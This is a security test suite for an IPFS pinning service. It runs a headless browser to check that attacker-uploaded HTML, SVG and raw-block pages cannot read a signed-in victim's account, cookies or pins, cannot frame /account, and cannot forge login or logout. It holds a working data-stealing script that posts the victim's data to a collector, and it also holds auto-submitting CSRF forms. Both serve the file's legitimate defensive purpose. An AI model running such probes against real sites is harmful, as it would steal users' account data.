// The audit's evil page, in real headless Chromium: HTML, SVG, sniffed HTML and an identity CID uploaded (or merely
// named) by user A and opened by signed-in user B must read nothing of B's account, uploads or pins, and must not
// be able to frame /account. Path-style content on a host with subdomains is redirected to its own origin.
import { existsSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { BrowserContext, Page } from 'playwright-core'
import { base32 } from 'multiformats/bases/base32'
import { CID } from 'multiformats/cid'
import * as raw from 'multiformats/codecs/raw'
import { identity } from 'multiformats/hashes/identity'
import { CHROMIUM, launchBrowser, startCollector, type Collector } from './browser.js'
import { encodeCar, importFiles, rawBlock, startTestServer, type TestServer } from './helpers.js'

const SECRET = 'bob-secret'

let server: TestServer
let collector: Collector
let browser: { context: BrowserContext, close: () => Promise<void> }
let site: CID
let sniffed: CID
let inline: CID

/** Runs in the evil page: everything a script on the service's origin could read, sent to the attacker. */
function probe (port: number) {
  return (collect: string): string => `(async () => {
  const out = { where: location.href, origin: self.origin, ran: true, reads: [], frames: [] }
  const targets = ['/account', '/user/uploads', '/pins', '/nft/', '/data/pinList',
    'http://127.0.0.1:${port}/account', 'http://localhost:${port}/account', 'http://127.0.0.1:${port}/user/uploads', 'http://localhost:${port}/pins']
  for (const t of targets) {
    try { const r = await fetch(t, { credentials: 'include' }); out.reads.push({ t, status: r.status, body: (await r.text()).slice(0, 20000) }) }
    catch (e) { out.reads.push({ t, error: String(e) }) }
  }
  try { out.cookie = document.cookie } catch (e) { out.cookie = 'blocked: ' + e }
  try { out.storage = localStorage.length } catch (e) { out.storage = 'blocked: ' + e }
  if (document.body) {
    const frames = ['http://127.0.0.1:${port}/account', 'http://localhost:${port}/account'].map(src => {
      const f = document.createElement('iframe'); f.src = src; document.body.appendChild(f); return f
    })
    await new Promise(r => setTimeout(r, 1500))
    out.frames = frames.map(f => { try { return f.contentDocument ? f.contentDocument.documentElement.outerHTML : 'no access' } catch (e) { return 'blocked: ' + e } })
  }
  await fetch('${collect}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(out) })
})()`
}

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: install Debian's chromium (apt-get install chromium); .ci/run does`)
  server = await startTestServer()
  collector = await startCollector(probe(server.port))
  const script = `<script src="${collector.url}/probe.js"></script>`
  // user A (the attacker) uploads a site with the probe in HTML, in SVG and in an extension-less file
  const evil = await importFiles([
    { path: 'index.html', content: Buffer.from(`<!doctype html><title>cute cats</title>${script}`) },
    { path: 'evil.svg', content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script href="${collector.url}/probe.js"/></svg>`) },
    { path: 'page', content: Buffer.from(`<html><body>${script}</body></html>`) }
  ], { wrap: true })
  site = evil.root
  expect((await fetch(`${server.url}/car`, { method: 'POST', body: await encodeCar([site], evil.blocks), headers: server.auth(0) })).status).toBe(200)
  const block = await rawBlock(Buffer.from(`<!doctype html>${script}`))
  sniffed = block.cid
  expect((await fetch(`${server.url}/car`, { method: 'POST', body: await encodeCar([sniffed], [block]), headers: server.auth(0) })).status).toBe(200)
  // no upload needed: the page is inside the CID itself
  inline = CID.createV1(raw.code, identity.digest(Buffer.from(`<!doctype html>${script}`)))

  // user B (the victim) has uploads and pins with names worth stealing
  const mine = await importFiles([{ path: 'private.txt', content: Buffer.from('private to bob') }], { wrap: true })
  expect((await fetch(`${server.url}/car`, { method: 'POST', body: await encodeCar([mine.root], mine.blocks), headers: { ...server.auth(1), 'x-name': `${SECRET}-upload` } })).status).toBe(200)
  expect((await fetch(`${server.url}/pins`, { method: 'POST', body: JSON.stringify({ cid: mine.root.toString(), name: `${SECRET}-pin` }), headers: { ...server.auth(1), 'content-type': 'application/json' } })).status).toBe(202)

  browser = await launchBrowser()
  for (const origin of [`http://127.0.0.1:${server.port}`, `http://localhost:${server.port}`]) {
    const page = await browser.context.newPage()
    await page.goto(`${origin}/account`)
    await page.fill('input[name=token]', 'token-bob')
    await page.click('button[type=submit]')
    // control: B, on the account origin, does see the secrets the evil page is after
    expect(await page.content()).toContain(`${SECRET}-upload`)
    expect(await page.content()).toContain(`${SECRET}-pin`)
    await page.close()
  }
}, 60_000)

afterAll(async () => {
  await browser?.close()
  await collector?.close()
  await server?.stop()
})

async function visit (url: string): Promise<{ page: Page, report: Record<string, any> }> {
  collector.reports.length = 0
  const page = await browser.context.newPage()
  await page.goto(url)
  const report = await collector.reportFrom('')
  return { page, report }
}

async function expectNothingRead (page: Page, report: Record<string, any>): Promise<void> {
  expect(report.ran).toBe(true)
  expect(JSON.stringify(report)).not.toContain(SECRET)
  // nothing the script could reach answered with an account page, and no frame shows /account
  for (const r of report.reads as Array<{ body?: string }>) expect(r.body ?? '').not.toContain('pinship account')
  for (const f of report.frames as string[]) expect(f).not.toContain('pinship account')
  for (const frame of page.frames()) {
    const html = await frame.content().catch(() => '')
    expect(html).not.toContain(SECRET)
    if (frame !== page.mainFrame()) expect(html).not.toContain('pinship account')
  }
}

describe('an uploaded page opened by a signed-in user', () => {
  it('on localhost: is redirected to its own origin {cid}.ipfs.localhost and reads nothing', async () => {
    const label = site.toV1().toString(base32)
    const { page, report } = await visit(`http://localhost:${server.port}/ipfs/${site.toString()}/`)
    try {
      expect(page.url()).toBe(`http://${label}.ipfs.localhost:${server.port}/`)
      expect(report.origin).toBe(`http://${label}.ipfs.localhost:${server.port}`)
      await expectNothingRead(page, report)
    } finally {
      await page.close()
    }
  }, 30_000)

  it.each([
    ['HTML', (): string => `/ipfs/${site.toString()}/`],
    ['SVG', (): string => `/ipfs/${site.toString()}/evil.svg`],
    ['extension-less sniffed HTML', (): string => `/ipfs/${site.toString()}/page`],
    ['a raw block of HTML', (): string => `/ipfs/${sniffed.toString()}`]
  ])('%s on 127.0.0.1 (no subdomains): served path-style in a sandbox with an opaque origin, reads nothing', async (_, path) => {
    const url = `http://127.0.0.1:${server.port}${path()}`
    const { page, report } = await visit(url)
    try {
      expect(page.url()).toBe(url)
      expect(report.origin).toBe('null')
      expect(String(report.cookie)).not.toContain('pinship')
      await expectNothingRead(page, report)
    } finally {
      await page.close()
    }
  }, 30_000)

  it('an identity CID too long for a DNS label, on localhost: stays path-style, sandboxed, reads nothing', async () => {
    const url = `http://localhost:${server.port}/ipfs/${inline.toString()}`
    const { page, report } = await visit(url)
    try {
      expect(page.url()).toBe(url)
      expect(report.origin).toBe('null')
      await expectNothingRead(page, report)
    } finally {
      await page.close()
    }
  }, 30_000)
})

describe('another site\'s page', () => {
  async function signedInAs (origin: string): Promise<string> {
    const page = await browser.context.newPage()
    try {
      await page.goto(`${origin}/account`)
      return await page.content()
    } finally {
      await page.close()
    }
  }

  it.each([
    ['the attacker\'s own site', (): string => collector.url],
    ['a sandboxed upload on the service', (): string => `http://127.0.0.1:${server.port}/ipfs/${site.toString()}`]
  ])('from %s cannot sign the victim into the attacker\'s account, nor sign them out', async (_, from) => {
    const origin = `http://127.0.0.1:${server.port}`
    const forms = {
      '/login.html': `<form id="f" method="post" action="${origin}/account/login"><input name="token" value="token-alice"><input name="csrf" value="guess"></form>`,
      '/logout.html': `<form id="f" method="post" action="${origin}/account/logout"><input name="csrf" value="guess"></form>`
    }
    for (const [path, form] of Object.entries(forms)) {
      collector.pages[path] = `<!doctype html>${form}<script>document.getElementById('f').submit()</script>`
      const page = await browser.context.newPage()
      try {
        const done = page.waitForResponse(r => r.url().startsWith(`${origin}/account/`))
        if (from() === collector.url) {
          await page.goto(`${collector.url}${path}`)
        } else {
          // the same page inside an upload's sandbox (allow-forms): its posts carry `Origin: null`
          await page.goto(`${from()}/`)
          await page.evaluate(html => { document.open(); document.write(html); document.close() }, collector.pages[path])
        }
        expect((await done).status()).toBe(403)
      } finally {
        await page.close()
      }
      const account = await signedInAs(origin)
      expect(account).toContain(`${SECRET}-upload`)
      expect(account).toContain('action="/account/logout"')
    }
  }, 30_000)
})
